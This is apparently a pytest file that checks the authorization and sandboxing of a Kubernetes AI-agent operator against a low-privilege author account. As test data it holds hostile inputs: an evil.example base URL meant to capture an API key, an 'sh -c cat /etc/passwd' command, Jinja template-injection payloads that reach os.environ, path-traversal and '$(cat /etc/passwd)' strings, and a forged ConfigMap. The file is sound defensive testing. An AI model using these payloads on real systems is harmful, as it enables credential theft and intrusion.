"""Who may write Agents, their runs, sessions and schedules, and ConfigMaps, reads no Secret and starts no process by it.

The author's rights are real ones: a Role, bound to a ServiceAccount that kubectl impersonates. Only what stands in
AgentModels and AgentPools can name a Secret, an address or a command, and those he may not write.
"""

import json
import re
import socket
from collections.abc import Iterator
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

import pytest
from dalang_api import API_VERSION
from dalang_operator.kinds.agentpool.desired import make_tools_copy

if TYPE_CHECKING:
    from tests.cluster.runs.conftest import Run, Shop, System

pytestmark = pytest.mark.timeout(120)

Object = dict[str, Any]

DONE = {"text": "Done."}
SECRET = "sk-the-platforms-own"


@dataclass(frozen=True)
class Author:
    """A ServiceAccount with few rights."""

    shop: "Shop"

    def kubectl(self, *arguments: str, stdin: str | None = None) -> str:
        user = f"system:serviceaccount:{self.shop.namespace}:author"
        return self.shop.kubectl(f"--as={user}", *arguments, stdin=stdin, check=False)

    def creates(self, kind: str, name: str, spec: Object | None = None, **more: Any) -> str:
        """Create an object; return what kubectl says."""
        version = "v1" if kind == "ConfigMap" else API_VERSION
        body = {"apiVersion": version, "kind": kind, "metadata": {"name": name}, **more}
        if spec is not None:
            body["spec"] = spec
        return self.kubectl("create", "-f", "-", stdin=json.dumps(body))

    def agent(self, name: str, **spec: Any) -> None:
        said = self.creates("Agent", name, {"modelRef": {"name": "model"}, **spec})
        assert said == f"agent.dalang.dev/{name} created\n"

    def run(self, name: str, **spec: Any) -> "Run":
        """Give an agent a task."""
        said = self.creates("AgentRun", name, {"agentRef": {"name": name}, "input": "Do it.", **spec})
        assert said == f"agentrun.dalang.dev/{name} created\n"
        return self.shop.adopt(name)


AUTHORS = ["agents", "agentruns", "agentsessions", "agentschedules"]
ROLE = [
    {"apiGroups": ["dalang.dev"], "resources": AUTHORS, "verbs": ["create", "patch"]},
    {"apiGroups": ["dalang.dev"], "resources": ["agentmodels", "agentpools"], "verbs": ["get"]},
    {"apiGroups": [""], "resources": ["configmaps"], "verbs": ["create"]},
]


@pytest.fixture(scope="module")
def author(system: "System", tmp_path_factory: pytest.TempPathFactory) -> Iterator[Author]:
    """An author in a namespace with a pool, a model and the Secret of its key."""
    shop = system.open_shop(tmp_path_factory.mktemp("author"))
    named = {"name": "author", "namespace": shop.namespace}
    rbac = "rbac.authorization.k8s.io"
    binding = {
        "roleRef": {"apiGroup": rbac, "kind": "Role", "name": "author"},
        "subjects": [{"kind": "ServiceAccount", **named}],
    }
    items = [
        {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": named},
        {"apiVersion": f"{rbac}/v1", "kind": "Role", "metadata": named, "rules": ROLE},
        {"apiVersion": f"{rbac}/v1", "kind": "RoleBinding", "metadata": named, **binding},
    ]
    shop.kubectl("create", "-f", "-", stdin=json.dumps({"apiVersion": "v1", "kind": "List", "items": items}))
    shop.put("Secret", "model", stringData={"api-key": SECRET})
    shop.model("model", DONE, spec={"auth": {"apiKey": {"secretKeyRef": {"name": "model", "key": "api-key"}}}})
    shop.pool()
    yield Author(shop)
    system.request("DELETE", "Namespace", None, shop.namespace)


# ── What he may write ──────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("arguments", "verb", "resource"),
    [
        pytest.param(("get", "secret", "model"), "get", "secrets", id="read the Secret"),
        pytest.param(("delete", "agentpool", "default"), "delete", "agentpools", id="delete the pool"),
        pytest.param(("get", "pods"), "list", "pods", id="see the workers"),
        pytest.param(("delete", "agentmodel", "model"), "delete", "agentmodels", id="delete the AgentModel"),
        pytest.param(("exec", "x", "--", "id"), "get", "pods", id="enter a worker"),
    ],
)
def test_an_author_may_not(author: Author, arguments: tuple[str, ...], verb: str, resource: str) -> None:
    said = author.kubectl(*arguments)
    assert "Error from server (Forbidden)" in said
    assert re.search(rf'cannot {verb} resource "{resource}"', said), said


@pytest.mark.parametrize(
    ("kind", "plural", "spec"),
    [
        pytest.param(
            "AgentModel",
            "agentmodels",
            {
                "provider": "OpenAI",
                "name": "mine",
                "openAI": {"baseURL": "http://evil.example/v1"},
                "auth": {"apiKey": {"secretKeyRef": {"name": "model", "key": "api-key"}}},
            },
            id="an AgentModel with an address of his own",
        ),
        pytest.param(
            "AgentPool",
            "agentpools",
            {"mcpServers": [{"name": "sh", "stdio": {"command": "sh", "args": ["-c", "cat /etc/passwd"]}}]},
            id="an AgentPool with a command",
        ),
    ],
)
def test_an_author_creates_and_changes_nothing_that_holds_credentials(
    author: Author, kind: str, plural: str, spec: Object
) -> None:
    refused = (
        rf'Error from server \(Forbidden\): .*User "system:serviceaccount:.*:author" cannot {{}} resource "{plural}"'
    )
    assert re.search(refused.format("create"), author.creates(kind, "mine", spec))
    there = "model" if kind == "AgentModel" else "default"
    before = author.shop.get(kind, there)["spec"]
    patch = json.dumps({"spec": spec})
    assert re.search(refused.format("patch"), author.kubectl("patch", kind, there, "--type=merge", "-p", patch))
    assert author.shop.get(kind, there)["spec"] == before
    assert author.shop.find(kind, "mine") is None


SMUGGLED = {
    "auth": {"apiKey": {"secretKeyRef": {"name": "model", "key": "api-key"}}},
    "openAI": {"baseURL": "http://evil.example/v1"},
    "mcpServers": [{"name": "sh", "stdio": {"command": "sh"}}],
    "env": [{"name": "KEY", "valueFrom": {"secretKeyRef": {"name": "model", "key": "api-key"}}}],
    "instructionsFrom": {"secretKeyRef": {"name": "model", "key": "api-key"}, "function": {"name": "f"}},
}


def test_fields_of_the_platforms_in_an_agent_are_refused_or_dropped(author: Author) -> None:
    body = {
        "apiVersion": API_VERSION,
        "kind": "Agent",
        "metadata": {"name": "smuggler"},
        "spec": {"modelRef": {"name": "model"}, **SMUGGLED},
    }
    said = author.kubectl("create", "-f", "-", stdin=json.dumps(body))
    unknown = ["auth", "openAI", "mcpServers", "env", "instructionsFrom.secretKeyRef"]
    assert [field for field in unknown if f'unknown field "spec.{field}"' not in said] == []
    author.kubectl("create", "--validate=ignore", "-f", "-", stdin=json.dumps(body))
    stored = author.shop.get("Agent", "smuggler")["spec"]
    assert stored == {"modelRef": {"name": "model"}, "instructionsFrom": {"function": {"name": "f"}}}


TASK = {"agentRef": {"name": "nobody"}, "input": "hi"}


@pytest.mark.parametrize(
    ("kind", "spec", "unknown", "stored"),
    [
        pytest.param(
            "AgentSession",
            {"agentRef": {"name": "nobody"}, **SMUGGLED, "summary": {"auth": SMUGGLED["auth"]}},
            ["auth", "openAI", "mcpServers", "env", "instructionsFrom", "summary.auth"],
            {"agentRef": {"name": "nobody"}, "summary": {}},
            id="an AgentSession",
        ),
        pytest.param(
            "AgentSchedule",
            {"schedule": {"cron": ["@yearly"]}, "runTemplate": {"spec": {**TASK, **SMUGGLED}}, "suspend": True},
            [f"runTemplate.spec.{field}" for field in SMUGGLED],
            {"schedule": {"cron": ["@yearly"]}, "runTemplate": {"spec": TASK}, "suspend": True},
            id="an AgentSchedule",
        ),
    ],
)
def test_fields_of_the_platforms_are_refused_or_dropped_in(
    author: Author, kind: str, spec: Object, unknown: list[str], stored: Object
) -> None:
    body = json.dumps({"apiVersion": API_VERSION, "kind": kind, "metadata": {"name": "smuggler"}, "spec": spec})
    said = author.kubectl("create", "-f", "-", stdin=body)
    assert [field for field in unknown if f'unknown field "spec.{field}"' not in said] == []
    author.kubectl("create", "--validate=ignore", "-f", "-", stdin=body)
    assert author.shop.get(kind, "smuggler")["spec"] == stored


# ── What his Agents may name ───────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("spec", "reason", "message"),
    [
        pytest.param(
            {"instructionsFrom": {"configMapKeyRef": {"name": "model", "key": "api-key"}}},
            "ConfigMapNotFound",
            "ConfigMap model",
            id="a Secret as a ConfigMap",
        ),
        pytest.param(
            {"tools": [{"name": "sh", "mcp": {"server": "sh"}}]}, "ServerNotFound", "sh", id="a server the pool has not"
        ),
        pytest.param(
            {"retrieval": {"retriever": "etc"}}, "RetrieverNotFound", "etc", id="a retriever the pool has not"
        ),
        pytest.param(
            {"tools": [{"name": "sh", "function": {"name": "os.system"}}]},
            "ToolNotFound",
            "os.system",
            id="a function of Python's",
        ),
        pytest.param(
            {"instructionsFrom": {"function": {"name": "os.getcwd"}}},
            "ToolNotFound",
            "os.getcwd",
            id="instructions from a function of Python's",
        ),
        pytest.param({"modelRef": {"name": "mine"}}, "ModelNotFound", "mine", id="a model that is not there"),
        pytest.param(
            {"output": {"schema": {"type": "object", "$ref": "file:///etc/passwd"}}},
            "InvalidSpec",
            r"\$ref: only #",
            id="a schema in a file",
        ),
    ],
)
def test_an_agent_gets_only_what_the_platform_gives(
    author: Author, spec: Object, reason: str, message: str, request: pytest.FixtureRequest
) -> None:
    name = re.sub(r"[^a-z]+", "-", request.node.callspec.id.lower()).strip("-")
    author.agent(name, **spec)
    said = author.shop.waits("Agent", name, reason)
    assert re.search(message, said)
    assert SECRET not in said


def test_a_schema_is_fetched_from_nowhere(author: Author) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.setblocking(False)
        url = f"http://127.0.0.1:{listening.getsockname()[1]}/schema"
        author.agent("fetcher", output={"schema": {"type": "object", "properties": {"a": {"$ref": url}}}})
        author.shop.waits("Agent", "fetcher", "InvalidSpec")
        with pytest.raises(BlockingIOError):
            listening.accept()


# ── What his words may do ──────────────────────────────────────────────────────────────────────────────────────────

TEMPLATES = {
    "class": "{{ ''.__class__ }}",
    "classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "include": '{% include "/etc/passwd" %}',
    "import": '{% import "os" as os %}{{ os.environ }}',
    "extends": '{% extends "/etc/passwd" %}',
    "self": "{{ self }}",
    "self-globals": "{{ self.__init__.__globals__ }}",
    "environ": "{{ cycler.__init__.__globals__.os.environ }}",
    "lipsum": "{{ lipsum.__globals__ }}",
    "config": "{{ config }}",
    "context-class": "{{ context.__class__ }}",
    "context-item": '{{ context["__class__"] }}',
    "context-attr": '{{ context | attr("__class__") }}',
    "context-get": '{{ context.get("user") }}',
    "agent-class": "{{ agent.__class__.__base__ }}",
    "run-globals": "{{ run.__init__.__globals__ }}",
    "format": '{{ "{0.__class__}" | format(context) }}',
    "format-call": '{{ "{0.__class__}".format(context) }}',
    "map": '{{ [context] | map(attribute="__class__") | join }}',
    "range": "{{ range.__self__ }}",
    "loop": "{% for x in [1] %}{{ loop.__class__ }}{% endfor %}",
}
REFUSED = {"InvalidSpec", "InvalidInstructions"}


@pytest.fixture(scope="module")
def hostile(author: Author) -> dict[str, "Run"]:
    """A run for each template, begun together; each second one's stands in a ConfigMap of the author's."""
    runs = {}
    for number, (name, template) in enumerate(TEMPLATES.items()):
        name = f"says-{name}"
        source: Object = {"instructions": template}
        if number % 2:
            assert "created" in author.creates("ConfigMap", name, data={"text": template})
            source = {"instructionsFrom": {"configMapKeyRef": {"name": name, "key": "text"}}}
        author.shop.model(name, DONE)
        author.agent(name, **source, modelRef={"name": name})
        runs[name.removeprefix("says-")] = author.run(name, context={"user": "Ada"})
    return runs


@pytest.mark.parametrize("name", TEMPLATES)
def test_a_hostile_template_reads_nothing(author: Author, hostile: dict[str, "Run"], name: str) -> None:
    run = hostile[name]
    author.shop.system.wait_for(
        "it is refused, or was rendered", lambda: run.succeeded["reason"] in REFUSED or run.asked
    )
    assert run.asked == []
    assert run.succeeded["reason"] in REFUSED
    for leaked in ("root:", "<class", "PATH", "/var/run", SECRET):
        assert leaked not in run.succeeded["message"]


def test_what_stands_in_variables_is_not_rendered(author: Author) -> None:
    words = "{{ agent.name }} {% include '/etc/passwd' %} {# gone #} {{ context.user }}"
    author.shop.model("once", {"toolCalls": [{"name": "stamp", "arguments": {"key": words}}]}, {"text": words})
    tools = [{"name": "stamp", "function": {}}]
    author.agent("once", instructions="Help {{ context.user }}.", tools=tools, modelRef={"name": "once"})
    run = author.run("once", input=words, context={"user": words, "json": f'["{words}"]'})
    assert run.answered()["output"] == words
    asked = [[message["content"] for message in request["body"]["messages"]] for request in run.asked]
    assert [messages[:2] for messages in asked] == [[f"Help {words}.", words]] * 2
    assert asked[1][-1] == f"stamped {words}"
    assert run.status["context"] == {"user": words, "json": f'["{words}"]'}


def test_paths_in_a_calls_arguments_are_the_tools_own_affair(author: Author) -> None:
    """What the model says names a tool and its arguments, never a file, a function or another server."""
    paths = ["../../secrets/model/api-key", "/etc/passwd", "$(cat /etc/passwd)", "file:///etc/passwd"]
    turn = [{"name": "stamp", "arguments": {"key": path}} for path in paths]
    turn += [{"name": path, "arguments": {}} for path in ("../../stamp", "os.system", "shop.stamp", "sh__run")]
    author.shop.model("paths", {"toolCalls": turn}, DONE)
    author.agent("paths", tools=[{"name": "stamp", "function": {}}], modelRef={"name": "paths"})
    run = author.run("paths")
    run.answered()
    told = [message["content"] for message in run.asked[-1]["body"]["messages"] if message["role"] == "tool"]
    assert told[:4] == [f"stamped {path}" for path in paths]
    assert all(text.startswith("There is no tool") for text in told[4:]), told[4:]
    assert sorted(call["key"] for call in author.shop.calls if call["key"] in paths) == sorted(paths)


GOOD = '''
from dalang import tool


@tool
def words() -> str:
    """Say something."""
    return "the platform's"
'''


def test_a_config_map_of_the_authors_does_not_become_a_pools_code(author: Author) -> None:
    """The name of the copy that workers mount can be worked out by who knows the modules."""
    shop = author.shop
    shop.put("ConfigMap", "taken-tools", data={"taken.py": GOOD})
    metadata = {"name": "taken", "namespace": shop.namespace, "uid": ""}
    copy = make_tools_copy({"metadata": metadata}, [shop.get("ConfigMap", "taken-tools")])
    assert copy is not None
    forged = {"taken.py": GOOD.replace("the platform's", "the author's")}
    assert "created" in author.creates("ConfigMap", copy["metadata"]["name"], data=forged)
    shop.create("AgentPool", "taken", {"tools": ["taken"], "toolsFrom": [{"configMapRef": {"name": "taken-tools"}}]})
    shop.model("taken", {"toolCalls": [{"name": "words", "arguments": {}}]}, {"text": "{{last_tool}}"})
    author.agent(
        "taken", poolRef={"name": "taken"}, modelRef={"name": "taken"}, tools=[{"name": "words", "function": {}}]
    )
    run = author.run("taken")
    assert copy["metadata"]["name"] in shop.waits("AgentPool", "taken", "DeploymentFailed")
    assert shop.find("Deployment", "dalang-taken") is None
    shop.delete("ConfigMap", copy["metadata"]["name"])
    assert run.answered()["output"] == "the platform's"
